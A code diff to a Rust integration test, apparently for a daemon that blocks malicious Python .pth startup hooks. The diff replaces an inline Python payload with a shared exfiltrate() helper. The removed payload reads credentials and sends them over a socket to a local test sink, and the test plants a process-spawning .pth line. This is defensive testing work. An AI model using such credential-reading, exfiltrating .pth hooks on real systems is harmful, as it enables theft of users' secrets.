@@ -7,7 +7,7 @@ use std::{process::Command, time::Duration};
 
 use integration_tests::{
     Daemon, PYTHON, Sandbox, TcpSink, can_run,
-    payload::{READ_CREDENTIALS, exfil_alert, spawning_pth_line, wait_marker},
+    payload::{exfil_alert, exfiltrate, spawning_pth_line, wait_marker},
     wait_until,
 };
 use serde_json::Value;
@@ -61,20 +61,7 @@ fn a_storm_of_process_starts_leaves_pthwatch_up_bounded_and_still_blocking() {
     }
     let sb = Sandbox::new("storm");
     let sink = TcpSink::start();
-    let child = format!(
-        "{READ_CREDENTIALS}
-import socket
-try:
-    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-",
-        sink.port
-    );
+    let child = exfiltrate(sink.port);
     sb.pth("storm_init.pth", &spawning_pth_line(&child));
     let mut daemon = Daemon::start("block", &[]);
     std::thread::sleep(Duration::from_millis(500));
